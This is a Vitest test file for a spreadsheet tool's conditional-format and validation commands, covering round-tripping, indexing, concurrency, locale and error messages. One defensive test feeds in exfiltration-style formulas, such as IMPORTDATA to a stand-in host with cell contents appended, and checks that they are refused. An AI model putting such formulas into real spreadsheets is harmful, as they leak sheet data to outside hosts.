// Conditional formats and validation through the front door: every condition is written, accepted by the backend and
// told again in the same words; what is wrong is refused in words that tell the right ones.

import { describe, expect, test } from 'vitest';
import { setConditionalFormat } from '../../src/sheets/conditional.ts';
import { type Condition, type ConditionUse, conditionTypes } from '../../src/sheets/conditions.ts';
import { readFormat } from '../../src/sheets/read-format.ts';
import { setValidation } from '../../src/sheets/validation.ts';
import { testApp } from '../support/app.ts';
import { failureOf } from '../support/fake-google.ts';
import { createVerbs } from '../support/verbs.ts';
import { createWorld, startApp } from '../support/wired-app.ts';

type App = Awaited<ReturnType<typeof testApp>>;

async function book(app: App) {
  const { body } = await app.rest('create_spreadsheet', {
    title: 'T',
    sheets: [{ title: 'S' }, { title: "It's", rows: [['x'], ['y']] }],
  });
  const id: string = body.id;
  const call = async (tool: string, input: object) => (await app.rest(tool, { spreadsheet: id, ...input })).body;
  return {
    id,
    conditional: (ranges: string[], rule: object, index?: number) =>
      call('set_conditional_format', { ranges, rule, ...(index !== undefined && { index }) }),
    validation: (range: string | string[], rule: object | null) => call('set_validation', { range, rule }),
    read: (range: string) => call('read_format', { range }),
  };
}

/** A condition of each type, with values as they are told. */
const VALUES: Readonly<Record<string, readonly (string | number)[]>> = {
  number_greater: [5],
  number_greater_than_eq: [-1.5],
  number_less: ['=B1'],
  number_less_than_eq: [0],
  number_eq: ['50%'],
  number_not_eq: [1e6],
  number_between: [1, 2.25],
  number_not_between: ['=B1', 7],
  text_contains: ['a'],
  text_not_contains: ['5'],
  text_starts_with: ['today'],
  text_ends_with: ['=B1'],
  text_eq: ['x y'],
  date_eq: ['2026-01-31'],
  date_before: ['2026-01-31'],
  date_after: ['=TODAY()+1'],
  date_on_or_before: ['2026-01-31'],
  date_on_or_after: ['2026-01-31'],
  date_between: ['2026-01-01', '2026-12-31'],
  date_not_between: ['2026-01-01', '=TODAY()'],
  one_of_list: ['a', 'b, c', '7'],
  one_of_range: ["'It''s'!A1:A"],
  custom_formula: ['=$B1>5'],
};

const conditions = (use: ConditionUse): Condition[] =>
  conditionTypes(use).map((type) => ({ type, ...(VALUES[type] && { values: VALUES[type] }) }));

describe('a conditional format', () => {
  test('of every condition is told again in the same words', async () => {
    const app = await testApp();
    const { conditional, read } = await book(app);
    const format = {
      background: '#ff0000',
      text: { bold: true, italic: false, strikethrough: true, color: '#0000ff' },
    };
    const rules = [
      ...conditions('format').map((condition) => ({ ...condition, format })),
      ...['past_year', 'past_month', 'past_week', 'yesterday', 'today', 'tomorrow'].map((day) => ({
        type: 'date_after',
        values: [day],
        format: { text: { italic: true } },
      })),
    ];
    expect(rules.length).toBe(25);
    for (const [index, rule] of rules.entries()) {
      expect(await conditional(['S!A1:A9', 'S!C:C'], rule)).toEqual({
        status: 'applied',
        index,
        ranges: ["'S'!A1:A9", "'S'!C:C"],
        writeId: expect.any(String),
      });
    }
    const told = (await read('S!C1')).conditional;
    expect(told).toEqual(rules.map((rule, index) => ({ index, ranges: ["'S'!A1:A9", "'S'!C:C"], rule })));
  });

  test.each([
    ['from the least to the most', { min: { color: '#ffffff' }, max: { color: '#ff0000' } }],
    ['with a middle', { min: { color: '#ffffff' }, mid: { color: '#ffff00', value: 50 }, max: { color: '#ff0000' } }],
    [
      'between numbers and shares',
      {
        min: { color: '#ffffff', type: 'number', value: -1.5 },
        mid: { color: '#ffff00', type: 'percent', value: 10 },
        max: { color: '#ff0000', type: 'number', value: '=B1' },
      },
    ],
  ])('of a scale of colours %s is told again in the same words', async (_, gradient) => {
    const app = await testApp();
    const { conditional, read } = await book(app);
    await conditional(['S!A:A'], { gradient });
    expect((await read('S')).conditional).toEqual([{ index: 0, ranges: ["'S'!A:A"], rule: { gradient } }]);
  });

  test('is added behind the others of its sheet, or takes the place of the one at an index', async () => {
    const app = await testApp();
    const { conditional, read } = await book(app);
    const rule = (text: string) => ({ type: 'text_eq', values: [text], format: { background: '#ff0000' } });
    for (const text of ['a', 'b', 'c']) await conditional(['S!A1'], rule(text));
    expect(await conditional(["It's!A1"], rule('other'))).toMatchObject({ index: 0 });
    expect(await conditional(['S!A1:B2'], rule('new'), 1)).toMatchObject({ status: 'applied', index: 1 });
    expect((await read('S!A1')).conditional).toMatchObject([
      { index: 0, rule: rule('a') },
      { index: 1, ranges: ["'S'!A1:B2"], rule: rule('new') },
      { index: 2, rule: rule('c') },
    ]);
    expect(await conditional(['S!A1'], rule('x'), 3)).toMatchObject({
      status: 404,
      detail: 'The sheet "S" has no rule 3: it has 3, counted from 0.',
      hint: 'read_format tells the rules with their index; without index the rule is added.',
    });
    expect(await conditional(["It's!B1", 'S!A1'], rule('x'))).toMatchObject({
      status: 400,
      detail: 'The ranges of a rule must be on one sheet, and these are on 2.',
    });
    expect((await read('S!A1')).conditional).toHaveLength(3);
  });

  test('of many callers at once each get a place of their own', async () => {
    const app = await testApp();
    const { conditional, read } = await book(app);
    const rule = (text: string) => ({ type: 'text_eq', values: [text], format: { background: '#ff0000' } });
    const texts = ['a', 'b', 'c', 'd', 'e'];
    const answers = await Promise.all(texts.map((text) => conditional(['S!A1'], rule(text))));
    expect(answers.map(({ index }) => index)).toEqual([0, 1, 2, 3, 4]);
    expect((await read('S')).conditional.map((one: { rule: object }) => one.rule)).toEqual(texts.map(rule));
  });

  test('whose reply is lost is answered as applied, once', async () => {
    const world = await createWorld();
    const app = await startApp(world);
    const spreadsheet = await world.book([['h']]);
    const rule = { type: 'blank', format: { background: '#ff0000' } };
    const input = { spreadsheet, ranges: ['S!A1'], rule };
    await world.until(app.run('set_conditional_format', input));
    const fault = { reset: 'after' } as const;
    world.emulator.setFaults({ rules: [{ method: 'POST', path: ':batchUpdate', count: 1, fault }] });
    const told = await world.until(app.run('set_conditional_format', input));
    expect(told).toEqual({ status: 'applied', index: 1, ranges: ["'S'!A1"], writeId: expect.any(String) });
    const { conditional } = await world.until(app.run('read_format', { spreadsheet, range: 'S' }));
    expect(conditional).toHaveLength(2);
  });

  test('is not kept for later, since an index may mean another rule then', async () => {
    const world = await createWorld();
    const app = await startApp(world);
    const spreadsheet = await world.book([['h']]);
    app.circuits.service('google_sheets_api').isolate(10_000);
    const rule = { type: 'blank', format: { background: '#ff0000' } };
    const error = await world.until(failureOf(app.run('set_conditional_format', { spreadsheet, ranges: ['S'], rule })));
    expect([error.code, app.ledgerRows('writes')]).toEqual(['circuit_open', []]);
  });

  test('is for the sheet that was meant, though it was renamed meanwhile', async () => {
    const memory = new Map<string, Promise<unknown>>();
    const { book, sheets, update, writing } = createVerbs((next) => async (call, signal) => {
      if (call.kind === 'write' || call.live) return next(call, signal);
      memory.set(call.key, memory.get(call.key) ?? next(call, signal));
      return memory.get(call.key);
    });
    const id = await book([['a']]);
    await sheets.read(id, ['S!A1'], 'formatted');
    const sheetId = (await sheets.describe(id, [])).sheets[0]?.sheetId;
    await update(id, { updateSheetProperties: { properties: { sheetId, title: 'T' }, fields: 'title' } });
    const rule = { type: 'blank', format: { background: '#ff0000' } };
    const set = () =>
      writing(id, (verbs) => verbs.on(id, (desk) => setConditionalFormat(desk, ['S!A1'], rule), ['S!A1']));
    expect(await set()).toMatchObject({ warnings: [expect.stringMatching(/^The sheet "S" was renamed to "T"/)] });
    await update(id, { addSheet: { properties: { title: 'Other' } } }, { deleteSheet: { sheetId } });
    await expect(set()).rejects.toMatchObject({ code: 'not_found' });
  });
});

describe('validation', () => {
  test('of every condition is told again in the same words', async () => {
    const app = await testApp();
    const { validation, read } = await book(app);
    const rules = conditions('validation');
    expect(rules.length).toBe(25);
    for (const [row, rule] of rules.entries()) {
      expect(await validation(`S!A${row + 1}`, rule)).toEqual({
        status: 'applied',
        ranges: [`'S'!A${row + 1}`],
        writeId: expect.any(String),
      });
    }
    const told = (await read('S!A1:A30')).validation;
    expect(told).toEqual(rules.map((rule, row) => ({ range: `'S'!A${row + 1}`, rule })));
  });

  test.each([
    { type: 'number_greater', values: [1], strict: false },
    { type: 'one_of_list', values: ['a'], dropdown: false, help: 'choose' },
    { type: 'number_greater', values: [1], dropdown: true },
    { type: 'boolean', values: ['yes', 'no'] },
    { type: 'boolean', values: ['yes'], strict: false },
  ])('with %j is told again in the same words', async (rule) => {
    const app = await testApp();
    const { validation, read } = await book(app);
    await validation(['S!A:A', 'S!C2:D3'], rule);
    expect((await read('S')).validation).toEqual([{ range: ["'S'!A:A", "'S'!C2:D3"], rule }]);
    await validation('S', null);
    expect((await read('S')).validation).toBeUndefined();
  });

  test.each([
    ['Choices', 'Choices'],
    ["It's!A1:A2", "'It''s'!A1:A2"],
    ["='It''s'!$A$2:$A", "'It''s'!A2:A"],
    ["It's!1:1", "'It''s'!1:1"],
    ["It's!A2", "'It''s'!A2"],
    ['B1:B9', 'S!B1:B9'],
  ])('may list the cells of %s', async (source, told) => {
    const { book, update, writing, emulator, sheets } = createVerbs();
    const id = await book([['a']]);
    await update(id, { addSheet: { properties: { title: "It's" } } });
    const { sheets: both } = await (await emulator.fetch(new Request(`http://emulator/v4/spreadsheets/${id}`))).json();
    const range = {
      sheetId: both[1].properties.sheetId,
      startRowIndex: 0,
      endRowIndex: 2,
      startColumnIndex: 0,
      endColumnIndex: 1,
    };
    await update(id, { addNamedRange: { namedRange: { name: 'Choices', range } } });
    const rule = { type: 'one_of_range', values: [source] };
    await writing(id, (verbs) => verbs.on(id, (desk) => setValidation(desk, ['S!D1'], rule)));
    const { validation } = (await sheets.on(id, (desk) => readFormat(desk, 'S!D1'))).report(1);
    expect(validation[0]?.rule.values).toEqual([told]);
    await writing(id, (verbs) => verbs.on(id, (desk) => setValidation(desk, ['S!D1'], validation[0]?.rule ?? null)));
    expect((await sheets.on(id, (desk) => readFormat(desk, 'S!D1'))).report(1).validation).toEqual(validation);
  });

  test.each([
    ['Choces', 'not_found', "Sheets: S, It's."],
    ["It's", 'invalid_argument', 'Write it as Lists!A2:A.'],
    ['S!A0', 'invalid_argument', 'Write A1:C10'],
  ])('cannot list the cells of %s', async (source, code, hint) => {
    const app = await testApp();
    const { validation, read } = await book(app);
    const refused = await validation('S!A1', { type: 'one_of_range', values: [source] });
    expect(refused).toMatchObject({ code, hint: expect.stringContaining(hint) });
    expect((await read('S!A1')).validation).toBeUndefined();
  });

  test('is for rows too that a filter hides', async () => {
    const { book, update, writing, emulator, sheets } = createVerbs();
    const id = await book([['h'], ['a'], ['b'], ['a']]);
    const url = `http://emulator/v4/spreadsheets/${id}`;
    const { sheetId } = (await (await emulator.fetch(new Request(url))).json()).sheets[0].properties;
    const range = { sheetId, startRowIndex: 0, endRowIndex: 4, startColumnIndex: 0, endColumnIndex: 1 };
    await update(id, { setBasicFilter: { filter: { range, criteria: { 0: { hiddenValues: ['a'] } } } } });
    await writing(id, (verbs) => verbs.on(id, (desk) => setValidation(desk, ['S!A1:A4'], { type: 'boolean' })));
    const reading = await sheets.on(id, (desk) => readFormat(desk, 'S!A1:A4'));
    expect(reading.report(4).validation).toEqual([{ range: "'S'!A1:A4", rule: { type: 'boolean' } }]);
  });
});

test('numbers are written as the locale of the spreadsheet writes them, and told as numbers again', async () => {
  const { book, update, writing, emulator, sheets } = createVerbs();
  const id = await book([['a']]);
  await update(id, { updateSpreadsheetProperties: { properties: { locale: 'de_DE' }, fields: 'locale' } });
  const rule = { type: 'number_between', values: [1.5, 1e3] };
  const gradient = {
    min: { color: '#ffffff', type: 'number', value: 0.25 },
    max: { color: '#ff0000' },
  } as const;
  await writing(id, (verbs) => verbs.on(id, (desk) => setValidation(desk, ['S!A1'], rule)));
  await writing(id, (verbs) => verbs.on(id, (desk) => setConditionalFormat(desk, ['S!A1'], { gradient })));
  const fields = 'sheets(conditionalFormats,data.rowData.values.dataValidation)';
  const url = `http://emulator/v4/spreadsheets/${id}?fields=${fields}&ranges=S!A1`;
  const [sheet] = (await (await emulator.fetch(new Request(url))).json()).sheets;
  const { condition } = sheet.data[0].rowData[0].values[0].dataValidation;
  expect(condition.values).toEqual([{ userEnteredValue: '1,5' }, { userEnteredValue: '1000' }]);
  expect(sheet.conditionalFormats[0].gradientRule.minpoint.value).toBe('0,25');
  const told = (await sheets.on(id, (desk) => readFormat(desk, 'S!A1'))).report(1);
  expect([told.validation[0]?.rule, told.conditional[0]?.rule]).toEqual([rule, { gradient }]);
});

describe('what is refused', () => {
  const painted = { format: { background: '#ff0000' } };
  const FORMATS: readonly (readonly [what: string, rule: unknown, words: RegExp])[] = [
    ['no rule', null, /rule: .*expected object/],
    ['a rule of nothing', {}, /rule: needs type and format, or gradient/],
    [
      'a rule that paints nothing',
      { type: 'blank', format: {} },
      /rule\.format: says nothing: give background or text/,
    ],
    ['a rule without a format', { type: 'blank' }, /rule: needs type and format, or gradient/],
    [
      'both kinds of a rule',
      { type: 'blank', ...painted, gradient: { min: { color: '#ffffff' }, max: { color: '#000000' } } },
      /rule: takes either gradient, or type, values and format/,
    ],
    [
      'an unknown condition',
      { type: 'greater', values: [1], ...painted },
      /rule\.type: .*"number_greater"\|.*"custom_formula"/,
    ],
    [
      'a condition for validation only',
      { type: 'one_of_list', values: ['a'], ...painted },
      /rule\.type: .*"number_greater"/,
    ],
    ['too few values', { type: 'number_between', values: [1], ...painted }, /values: number_between takes 2, not 1/],
    ['values where none belong', { type: 'blank', values: [1], ...painted }, /values: blank takes 0, not 1/],
    [
      'a formula without its sign',
      { type: 'custom_formula', values: ['A1>5'], ...painted },
      /values: a formula begins with "="/,
    ],
    [
      'a value that is none',
      { type: 'text_eq', values: [true], ...painted },
      /values\[0\]: expected a text or a number/,
    ],
    [
      'a font',
      { type: 'blank', format: { text: { underline: true } } },
      /"underline".* in rule\.format\.text, which takes bold, italic, strikethrough, color/,
    ],
    ['a scale without its end', { gradient: { min: { color: '#ffffff' } } }, /rule\.gradient\.max: .*expected object/],
    [
      'a middle without a value',
      { gradient: { min: { color: '#ffffff' }, mid: { color: '#ffffff' }, max: { color: '#ffffff' } } },
      /rule\.gradient\.mid\.value: expected a text or a number/,
    ],
    [
      'a share without a value',
      { gradient: { min: { color: '#ffffff', type: 'percent' }, max: { color: '#ffffff' } } },
      /rule\.gradient\.min: has a value where its type is/,
    ],
  ];
  const VALIDATIONS: readonly (readonly [what: string, rule: unknown, words: RegExp])[] = [
    ['no rule', undefined, /rule: .*expected object/],
    ['a rule of nothing', {}, /rule\.type: .*"number_greater"\|.*"one_of_list"\|.*"boolean"/],
    ['a condition for formats only', { type: 'blank' }, /rule\.type: .*"one_of_range"/],
    ['a list of nothing', { type: 'one_of_list' }, /values: one_of_list takes at least 1, not 0/],
    [
      'more than two looks of a box',
      { type: 'boolean', values: ['a', 'b', 'c'] },
      /values: boolean takes at most 2, not 3/,
    ],
    [
      'a day that moves',
      { type: 'date_after', values: ['today'] },
      /values: today cannot be in a validation: write =TODAY\(\)/,
    ],
    [
      'an unknown word',
      { type: 'boolean', warn: true },
      /unknown key "warn".* in rule, which takes type, values, strict, dropdown, help/,
    ],
  ];

  test.each([
    ['set_conditional_format', { ranges: ['S!A1'] }, FORMATS],
    ['set_validation', { range: 'S!A1' }, VALIDATIONS],
  ] as const)('by %s, in words that tell the right ones; nothing is sent', async (tool, input, wrong) => {
    const app = await testApp();
    const calls: string[] = [];
    app.subscribe((event) => void (event.type === 'api_call' && calls.push(event.method)));
    for (const [what, rule, words] of wrong) {
      const { status, body } = await app.rest(tool, { spreadsheet: 'no-such-spreadsheet', ...input, rule });
      expect([what, status, body.code]).toEqual([what, 400, 'invalid_argument']);
      expect(body.detail, what).toMatch(words);
    }
    expect(calls).toEqual([]);
  });

  test.each([
    [
      'set_conditional_format',
      {
        ranges: ['S!A1'],
        rule: { type: 'custom_formula', values: ['=LEN(IMPORTDATA("https://x.example/"&A1))'], ...painted },
      },
    ],
    [
      'set_conditional_format',
      {
        ranges: ['S!A1'],
        rule: {
          gradient: {
            min: { color: '#ffffff', type: 'number', value: '=IMPORTXML(A1,"b")' },
            max: { color: '#ffffff' },
          },
        },
      },
    ],
    ['set_validation', { range: 'S!A1', rule: { type: 'number_greater', values: ['=IMPORTRANGE(A1,"b")'] } }],
  ])('by %s, a formula that fetches from elsewhere', async (tool, input) => {
    const app = await testApp();
    const { id, read } = await book(app);
    const { status, body } = await app.rest(tool, { spreadsheet: id, ...input });
    expect([status, body.code, body.detail]).toEqual([
      501,
      'unsupported',
      expect.stringMatching(/which fetches from elsewhere/),
    ]);
    expect(await read('S')).toMatchObject({ formats: [] });
  });

  test('by both, a sheet that is not there', async () => {
    const app = await testApp();
    const { conditional, validation } = await book(app);
    for (const answer of [
      await conditional(['SS!A1'], { type: 'blank', ...painted }),
      await validation('SS!A1', null),
    ]) {
      expect(answer).toMatchObject({ code: 'not_found', hint: expect.stringContaining('Sheets: S, It') });
    }
  });
});
